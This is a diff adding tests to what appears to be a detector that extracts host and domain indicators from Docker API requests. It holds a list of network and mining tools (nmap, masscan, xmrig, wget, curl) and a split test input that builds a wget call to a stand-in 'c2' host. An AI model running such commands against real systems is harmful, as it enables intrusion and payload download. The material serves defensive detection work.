@@ -471,3 +471,59 @@ void t.test('a call that is all names and addresses is not searched to its end, 
   );
   t.end();
 });
+
+// The lists here are written anew: an entry that is lost or misspelt is missed.
+
+/** 198.51.100.66 as one number: a host in some places, and only a number in all others. */
+const NUMBER = '3325256770';
+const field = (name: string, value: JsonObject[string]): string[] =>
+  indicators(body('ContainerCreate', { [name]: value }));
+
+void t.test('each field whose numbers are hosts', (t) => {
+  for (const name of [
+    ...['Dns', 'DNS', 'DnsSearch', 'ExtraHosts', 'Hosts', 'Nameservers', 'Search', 'extrahosts', 'remote'],
+    ...['RemoteAddrs', 'ListenAddr', 'AdvertiseAddr', 'DataPathAddr', 'HostIp', 'serveraddress', 'URL'],
+    ...['Options', 'DriverOpts', 'Config', 'fromSrc', 'ExternalIPs', 'AuxiliaryAddresses', 'Gateway'],
+  ]) {
+    t.same(field(name, NUMBER), [HOST], name);
+    t.same(field(name, { a: NUMBER }), [HOST], `${name}, a value below it`);
+    t.same(field(`My${name}`, NUMBER), [], `My${name}: only a number`);
+  }
+  t.end();
+});
+
+void t.test('each field that is a command, each program that connects to what its arguments name', (t) => {
+  for (const name of ['Cmd', 'Entrypoint', 'Command', 'Args', 'Test', 'Shell', 'OnBuild']) {
+    t.same(field(name, ['ping', NUMBER]), [HOST], name);
+    t.same(field(`My${name}`, ['ping', NUMBER]), [], `My${name}: only words`);
+  }
+  for (const program of [
+    ...[
+      'ping',
+      'ping6',
+      'fping',
+      'hping3',
+      'dig',
+      'nslookup',
+      'host',
+      'drill',
+      'getent',
+      'traceroute',
+      'mtr',
+    ],
+    ...['nmap', 'masscan', 'git', 'mount', 'route', 'ip', 'iptables', 'openssl', 'xmrig', 'autossh'],
+    ...['proxychains', 'wget', 'curl'],
+  ]) {
+    t.same(indicators(run(program, NUMBER)), [HOST], program);
+    t.same(indicators(run(`my${program}`, NUMBER)), [], `my${program}: another program`);
+  }
+  t.end();
+});
+
+void t.test('each list whose elements have nothing to do with each other', (t) => {
+  const parts = ['X=evil;', 'wget http://c2.$X.example/'];
+  t.same(field('Other', parts), [NAME], 'elements of other lists are read together');
+  for (const name of ['Env', 'ExtraHosts', 'Hosts', 'Binds', 'PortSpecs'])
+    t.same(field(name, parts), [], name);
+  t.end();
+});
